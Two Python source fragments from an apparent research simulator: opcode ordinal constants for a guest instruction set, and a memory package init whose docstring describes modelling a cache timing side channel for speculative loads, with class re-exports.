ORD_CFLUSH = 6    # (ord, imm)
ORD_FENCE = 7     # (ord,)
ORD_RDCYCLE = 8   # (ord, dest, latency)
ORD_RDINSTRET = 9  # (ord, dest, latency)
ORD_BRANCH = 10   # (ord, cond_fn, target, guest_insts)  taken = cond(v1, v2)
ORD_JUMP = 11     # (ord, target)
ORD_JUMPR = 12    # (ord, imm)                           target = v1 + imm
ORD_SYSCALL = 13  # (ord, target_or_0)

#: Ordinals whose op unconditionally ends the block (the bundle still
#: finishes executing — a later exit op may overwrite the pending exit).
UNCONDITIONAL_EXITS = frozenset((ORD_JUMP, ORD_JUMPR, ORD_SYSCALL))
