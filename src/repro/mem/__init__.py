"""Memory hierarchy: set-associative L1 data cache over flat memory.

The cache is the side channel of the paper: speculative loads leave their
fills behind even when the architectural effects are rolled back, and the
guest can observe residency through timed probe loads (``rdcycle``).
"""

from .cache import CacheConfig, CacheStats, SetAssociativeCache
from .hierarchy import AccessResult, DataMemorySystem
from .vector import (LaneCacheModel, LaneGroupRegistry, LaneView,
                     VectorReplay)

__all__ = [
    "AccessResult",
    "CacheConfig",
    "CacheStats",
    "DataMemorySystem",
    "LaneCacheModel",
    "LaneGroupRegistry",
    "LaneView",
    "SetAssociativeCache",
    "VectorReplay",
]
